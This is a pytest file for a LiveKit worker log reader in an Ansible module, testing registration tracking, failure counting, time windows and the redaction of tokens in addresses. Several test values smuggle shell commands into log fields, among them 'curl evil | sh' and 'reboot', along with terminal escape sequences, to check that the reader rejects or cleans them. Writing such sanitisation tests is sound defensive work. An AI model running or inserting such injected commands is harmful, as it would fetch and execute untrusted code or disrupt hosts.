"""A worker's log becomes one reading: the latest registration counts, only while nothing after it says otherwise."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest
from ansible.module_utils.livekit_deploy.common import times
from ansible.module_utils.livekit_deploy.worker import log_events, log_words, worker_log


def line(message: str, **fields: Any) -> str:
    return json.dumps({"message": message, "level": "INFO", **fields})


def registered(worker_id: str, name: str = "sidekick") -> str:
    return line(
        "registered worker",
        id=worker_id,
        agent_name=name,
        url="ws://livekit:7880",
        timestamp="2026-01-01T00:00:00+00:00",
    )


DISCONNECTED = line("failed to connect to livekit, retrying in 2s")


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        pytest.param([], {"worker_id": None, "connected": False, "reconnects": 0}, id="empty log"),
        pytest.param(["no json at all", "{broken", "[1]"], {"worker_id": None}, id="lines of somebody else"),
        pytest.param(
            [registered("AW_1")],
            {"worker_id": "AW_1", "agent_name": "sidekick", "connected": True, "reconnects": 0},
            id="once",
        ),
        pytest.param(
            [registered("AW_1"), registered("AW_2")],
            {"worker_id": "AW_2", "reconnects": 1},
            id="id is new at a reconnect",
        ),
        pytest.param(
            [registered("AW_1"), DISCONNECTED],
            {"worker_id": "AW_1", "connected": False},
            id="connection lost afterwards",
        ),
        pytest.param([DISCONNECTED, registered("AW_1")], {"connected": True}, id="connection lost before"),
        pytest.param([registered("AW_1"), line("worker failed")], {"connected": False}, id="worker failed"),
        pytest.param(
            [registered("AW_1"), line("draining worker")], {"draining": True, "worker_id": "AW_1"}, id="draining"
        ),
        pytest.param(
            [registered("AW_1"), line("draining worker"), line("starting worker", version="1.8.9")],
            {"worker_id": None, "draining": False, "connected": False, "sdk_version": "1.8.9"},
            id="a restarted process starts over",
        ),
        pytest.param(["2026 agent | " + registered("AW_1")], {"worker_id": "AW_1"}, id="a prefix before the object"),
    ],
)
def test_reading_follows_the_latest_registration(lines: list[str], expected: dict[str, Any]) -> None:
    found: Mapping[str, object] = worker_log.log_reading(lines)
    assert {key: found[key] for key in expected} == expected


@pytest.mark.parametrize("worker_id", ["AW_1; curl evil | sh #", "AW_1\x1b[2J", 7, ["AW_1"], "AJ_1"])
def test_registration_with_an_id_that_no_server_makes_is_none(worker_id: Any) -> None:
    found = worker_log.log_reading(
        [registered("AW_2"), line("registered worker", id=worker_id, agent_name="other", url="ws://other")]
    )
    assert (found["worker_ids"], found["agent_name"], found["url"]) == (["AW_2"], "sidekick", "ws://livekit:7880")


def test_names_in_a_log_are_one_line_of_plain_text() -> None:
    asked = line(
        "received job request",
        job_id="AJ_1",
        dispatch_id="AD_1; reboot",
        room="r\n\x1b[31mstop it: reboot",
        agent_name={"a": 1},
    )
    found = worker_log.log_reading([registered("AW_1", "a\nb\x1b]0;title\x07"), asked])
    assert found["agent_name"] == "a b"
    assert found["requests"][0] == {
        "job_id": "AJ_1",
        "dispatch_id": None,
        "room": "r stop it: reboot",
        "agent_name": None,
        "time": None,
    }


# --- real lines of livekit-agents 1.8.9 (trimmed), one fault each; the older form is of 1.5.7 -------------------------

CLOCK = "2026-11-22T22:45:{:09.6f}+00:00"


def at(seconds: float, message: str, **fields: Any) -> str:
    return line(message, **fields, timestamp=CLOCK.format(seconds))


def request(seconds: float, job_id: str = "AJ_1") -> str:
    return at(seconds, "received job request", job_id=job_id, dispatch_id="AD_1", room="r1", agent_name="a")


def refused(seconds: float, error: str) -> str:
    return at(
        seconds,
        "failed to connect to livekit, retrying in 2s",
        level="WARNING",
        retry_count=2,
        max_retry=16,
        error=error,
    )


WRONG_KEY = "401, message='Invalid response status', url='ws://127.0.0.1:55479/agent'"
NO_SERVER = "Cannot connect to host 127.0.0.1:401 ssl:default [Connect call failed ('127.0.0.1', 401)]"
OLDER = line(
    "failed to connect to livekit, retrying in 0s",
    exc_info="Traceback (most recent call last):\n  File x\naiohttp.client_exceptions.WSServerHandshakeError: "
    + WRONG_KEY,
)
RAISED = 'Traceback (most recent call last):\n  File "agent.py", line 26, in entrypoint\nRuntimeError: boom'
CRASH = at(5.1, "unhandled exception while running the job task\n" + RAISED, level="ERROR", exc_info=RAISED)
FULL = at(6.2, "worker is at full capacity, marking as unavailable", load=0.9, threshold=0.5)
NOT_FULL = at(7.2, "worker is below capacity, marking as available", load=0.1, threshold=0.5)
NO_ANSWER = at(8, "no answer was given inside the job_request_fnc, automatically rejecting the job", agent_name="a")
LOST = "assignment for job AJ_1 timed out"


def failure(message: str, error: str | None, time: str | None) -> dict[str, Any]:
    return {"last_failure": {"message": message, "time": time, "error": error}}


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        pytest.param(
            [registered("AW_1")],
            {"failures": 0, "last_failure": None, "full": False, "guarded": False, "late": 0},
            id="good",
        ),
        pytest.param(
            [refused(1, WRONG_KEY), refused(3, WRONG_KEY)], {"failures": 2, "unauthorized": 2}, id="wrong key"
        ),
        pytest.param(
            [refused(5.5, NO_SERVER)],
            {
                "unauthorized": 0,
                **failure("failed to connect to livekit, retrying in 2s", NO_SERVER, CLOCK.format(5.5)),
            },
            id="no server there",
        ),
        pytest.param([OLDER], {"failures": 1, "unauthorized": 1}, id="an older release says it in a traceback"),
        pytest.param(
            [
                at(
                    9,
                    "worker failed",
                    exc_info="Traceback\nRuntimeError: failed to connect to livekit after 16 attempts",
                )
            ],
            failure("worker failed", "RuntimeError: failed to connect to livekit after 16 attempts", CLOCK.format(9)),
            id="retries used up",
        ),
        pytest.param([registered("AW_1"), FULL], {"full": True, "connected": True}, id="full"),
        pytest.param([FULL, NOT_FULL], {"full": False}, id="not full any more"),
        pytest.param([FULL, line("starting worker")], {"full": False}, id="a restarted process is not full"),
        pytest.param(
            [CRASH], {"entrypoint_errors": 1, "last_entrypoint_error": "RuntimeError: boom"}, id="entrypoint raises"
        ),
        pytest.param([request(1), NO_ANSWER], {"unanswered": 1, "late": 0}, id="handler says nothing"),
        pytest.param(
            [at(1, "received assignment for an unknown job", job={})],
            {"unanswered": 1},
            id="assignment nobody waits for",
        ),
        pytest.param(
            [request(25.34), at(35.74, LOST)], {"unanswered": 1, "late": 1}, id="accepted 2.9 s after the request"
        ),
        pytest.param(
            [request(25.34), at(33.10, LOST)], {"unanswered": 1, "late": 0}, id="accepted at once, never assigned"
        ),
        pytest.param(
            [request(31.35), at(34.26, "probe answered", job_id="AJ_1")],
            {"late": 1, "guarded": True},
            id="refused after 2.9 s",
        ),
        pytest.param(
            [request(31.35), at(31.36, "probe passed on", job_id="AJ_1")],
            {"late": 0, "passed_on": 0},
            id="passed on at once",
        ),
        pytest.param(
            [request(1), at(1.1, "request passed on, gate is closed", job_id="AJ_1")],
            {"passed_on": 1, "guarded": True},
            id="gate closed",
        ),
        pytest.param(
            [at(1, "request handler is guarded")], {"guarded": True, "passed_on": 0}, id="started through the hook"
        ),
    ],
)
def test_reading_tells_what_troubles_the_worker(lines: list[str], expected: dict[str, Any]) -> None:
    found: Mapping[str, object] = worker_log.log_reading(lines)
    assert {key: found[key] for key in expected} == expected


def test_token_in_an_address_is_not_repeated() -> None:
    error = "404, message='Not Found', url='wss://x/agent?worker_token=hidden'"
    failure = worker_log.log_reading([refused(1, error)])["last_failure"]
    assert failure is not None
    assert failure["error"] == "404, message='Not Found', url='wss://x/agent?…'"


def test_what_was_before_the_window_is_not_counted() -> None:
    lines = [registered("AW_1"), request(1, "AJ_old"), CRASH, refused(6, WRONG_KEY), request(10, "AJ_new")]
    found = worker_log.log_reading(lines, since=times.epoch(CLOCK.format(8)))
    counted = {
        key: found[key]
        for key in ("requests_total", "entrypoint_errors", "failures", "unauthorized", "last_entrypoint_error")
    }
    assert counted == {
        "requests_total": 1,
        "entrypoint_errors": 0,
        "failures": 0,
        "unauthorized": 0,
        "last_entrypoint_error": None,
    }
    assert ([r["job_id"] for r in found["requests"]], found["worker_id"], found["connected"]) == (
        ["AJ_new"],
        "AW_1",
        False,
    )


def test_request_without_a_time_counts() -> None:
    assert worker_log.log_reading([line("received job request", job_id="AJ_1")], since=1e9)["requests_total"] == 1


def test_newest_requests_and_registrations_are_kept() -> None:
    lines = [request(1, f"AJ_{n}") for n in range(600)] + [registered(f"AW_{n}") for n in range(6000)]
    found = worker_log.log_reading(lines)
    assert (found["requests_total"], len(found["requests"]), found["requests"][-1]["job_id"]) == (600, 500, "AJ_599")
    assert (found["reconnects"], len(found["registrations"]), len(found["worker_ids"]), found["worker_ids"][-1]) == (
        5999,
        50,
        5000,
        "AW_5999",
    )


def test_request_asked_for_is_kept_however_many_followed() -> None:
    found = worker_log.log_reading(
        [request(1, "AJ_wanted"), *(request(1, f"AJ_{n}") for n in range(600))], after={"AJ_wanted"}
    )
    assert [r["job_id"] for r in found["requests"]] == ["AJ_wanted"]


@pytest.mark.parametrize(
    "fields", [{"job_id": {}, "room": []}, {"job_id": None}, {"timestamp": 5}, {"timestamp": "soon"}]
)
def test_field_of_another_type_is_no_trouble(fields: dict[str, Any]) -> None:
    assert (
        worker_log.log_reading([line("received job request", **fields)], after={"r"}, since=1.0)["requests_total"] == 1
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-22T22:45:22.341152+00:00", 1795387522.341152),
        ("2026-11-22T22:45:22Z", 1795387522.0),
        ("2026-11-22T22:45:22", 1795387522.0),
        ("soon", None),
        (None, None),
    ],
)
def test_time_of_a_line_is_read_as_utc_unless_it_says_otherwise(text: Any, expected: float | None) -> None:
    assert times.epoch(text) == expected


def test_reading_lists_each_job_request_with_its_ids() -> None:
    asked = line("received job request", job_id="AJ_1", dispatch_id="AD_1", room="r1", agent_name="a", timestamp="t")
    expected = {"job_id": "AJ_1", "dispatch_id": "AD_1", "room": "r1", "agent_name": "a", "time": "t"}
    assert worker_log.log_reading([asked])["requests"] == [expected]


def test_reading_tells_which_patterns_appear() -> None:
    found = worker_log.log_reading([line("tool call", tool="lookup_order")], ["tool call", "never said"])
    assert found["log_matches"] == {"tool call": 0.0}


@pytest.mark.parametrize(
    ("after", "expected"),
    [
        pytest.param({"new-room"}, {}, id="said only before this call"),
        pytest.param({"old-room"}, {"tool call": 0.0}, id="said after it"),
        pytest.param(set(), {"tool call": 0.0}, id="no call named"),
    ],
)
def test_pattern_of_an_earlier_call_proves_nothing(after: set[str], expected: dict[str, float]) -> None:
    lines = [
        line("received job request", room="old-room"),
        line("tool call"),
        line("received job request", room="new-room"),
    ]
    assert worker_log.log_reading(lines, ["tool call"], after)["log_matches"] == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (line("hello"), "INFO: hello"),
        (
            line("job crashed", exc_info="Traceback\n  File x\nRuntimeError: boom"),
            "INFO: job crashed: RuntimeError: boom",
        ),
        ("plain text", "plain text"),
        ("x" * 300, "x" * 239 + "…"),
    ],
)
def test_short_line_keeps_what_a_message_needs(raw: str, expected: str) -> None:
    assert log_events.short(raw) == expected


def test_last_lines_leave_out_the_requests_that_never_reached_the_application() -> None:
    said = [
        "registered worker",
        "received job request",
        "probe answered",
        "unhandled exception",
        "request passed on, gate is closed",
    ]
    lines = [json.dumps({"message": message, "level": "INFO"}) for message in said] + ["plain words"]
    assert log_words.telling(lines, 2) == [lines[3], "plain words"]
